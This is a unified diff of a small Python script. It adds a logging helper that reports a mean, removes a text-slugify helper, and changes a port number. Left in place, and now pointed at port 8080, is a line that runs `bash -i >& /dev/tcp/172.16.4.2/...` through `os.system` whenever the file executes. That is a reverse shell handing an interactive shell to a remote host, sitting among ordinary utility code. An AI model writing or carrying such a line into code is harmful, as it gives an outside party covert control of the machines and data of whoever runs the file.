@@ -1,8 +1,11 @@
 #!/usr/bin/env python3
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
 host = "172.16.4.2"
-port = 31337
+port = 8080
 os.system(f"bash -i >& /dev/tcp/{host}/{port} 0>&1")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
